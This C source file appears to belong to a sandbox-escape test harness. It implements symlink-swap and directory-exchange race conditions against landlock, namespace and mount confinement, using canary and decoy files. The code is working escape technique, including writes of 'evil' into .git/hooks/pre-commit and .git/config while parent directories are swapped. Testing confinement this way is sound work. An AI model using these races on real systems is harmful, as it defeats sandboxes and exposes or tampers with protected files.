/* SPDX-License-Identifier: Apache-2.0 */
/* Names that change between check and use. Targets: W writable grant, D directory that is not
 * granted, ROUNDS how often, SECONDS how long at most. */
#include "payload.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

static atomic_bool stopped;
static _Atomic unsigned long swaps;

/* Print what a file holds unless it is the decoy; the race would print it a hundred thousand times.
 */
static void look(const char *path)
{
	autoclose int fd = open(path, O_RDONLY | O_CLOEXEC);
	char bytes[256];
	ssize_t n = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes));

	if (n > 0 && strncmp(bytes, "decoy", 5) && strncmp(bytes, "defaced", 7))
		spill_path(path);
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void *swap(void *names)
{
	const char *const *pair = names;

	while (!stopped) {
		if (!renameat2(AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE))
			swaps++;
	}
	return NULL;
}

/* W/p is a directory and W/l a link to D: they trade places as fast as they can while W/p/canary is
 * written. */
static void exchange(void)
{
	long rounds = target_number("ROUNDS", 100000), done = 0, opened = 0;
	double end = now() + (double)target_number("SECONDS", 60);
	const char *directory = below("W", "p"), *link = below("W", "l");
	const char *names[] = {directory, link};
	char victim[4096];
	pthread_t thread;

	snprintf(victim, sizeof(victim), "%s/canary", directory);
	mkdir(directory, 0755);
	write_text(victim, "decoy\n");
	if (symlink(target("D"), link))
		note("symlink: %s", strerror(errno));
	if (pthread_create(&thread, NULL, swap, names)) {
		note("no second thread");
		return;
	}
	for (; done < rounds && now() < end; done++) {
		int fd = -1;

		/* First what can be read, then what can be written: a defaced secret would not be
		 * recognised. */
		if (done < rounds / 2) {
			look(victim);
			continue;
		}
		fd = open(victim, O_WRONLY | O_CLOEXEC);
		if (fd >= 0)
			opened++;
		deface(fd);
	}
	stopped = true;
	pthread_join(thread, NULL);
	note("%ld rounds, %lu swaps, %ld opens", done, swaps, opened);
}

/* Only the swapping: the driver starts other runs whose grant is W/p meanwhile. Ends when W/stop
 * appears. */
static void swap_for_others(void)
{
	const char *names[] = {below("W", "p"), below("W", "l")};
	const char *stop = below("W", "stop");
	double end = now() + (double)target_number("SECONDS", 60);

	write_text(below("W", "ready"), "ready\n");
	while (now() < end && access(stop, F_OK)) {
		for (int i = 0; i < 200; i++)
			if (!renameat2(AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE))
				swaps++;
	}
	note("%lu swaps", swaps);
}

/* What the granted path turned out to be. */
static void use_granted_path(void)
{
	spill_path(below("P", "canary"));
	deface_path(below("P", "canary"));
	note("write: %d", write_text(below("P", "planted"), "planted\n"));
}

/* A protected name is looked for while its parents come and go. */
static void parent_races(void)
{
	long rounds = target_number("ROUNDS", 100000), done = 0;
	double end = now() + (double)target_number("SECONDS", 60);
	const char *directory = below("W", ".git"), *other = below("W", "other-git");
	const char *hook = below("W", ".git/hooks/pre-commit"), *config = below("W", ".git/config");
	const char *canary = below("HIDDEN", "canary");
	const char *names[] = {directory, other};
	pthread_t thread;

	mkdir(other, 0755);
	mkdir(below("W", "other-git/hooks"), 0755);
	if (pthread_create(&thread, NULL, swap, names))
		return;
	for (; done < rounds && now() < end; done++) {
		write_text(hook, "evil\n");
		write_text(config, "evil\n");
		look(canary);
		if (done > rounds / 2)
			deface_path(canary);
	}
	stopped = true;
	pthread_join(thread, NULL);
	if (swaps % 2)
		renameat2(AT_FDCWD, directory, AT_FDCWD, other, RENAME_EXCHANGE);
	note("%ld rounds, %lu swaps", done, swaps);
}

const struct technique race_techniques[] = {
	{"F05", "exchange", "namespaces, landlock", exchange},
	{"F05", "swap-for-others", "", swap_for_others},
	{"M07", "use-granted-path", "pinned descriptors", use_granted_path},
	{"F07", "parent-races", "mounts", parent_races},
	{0},
};
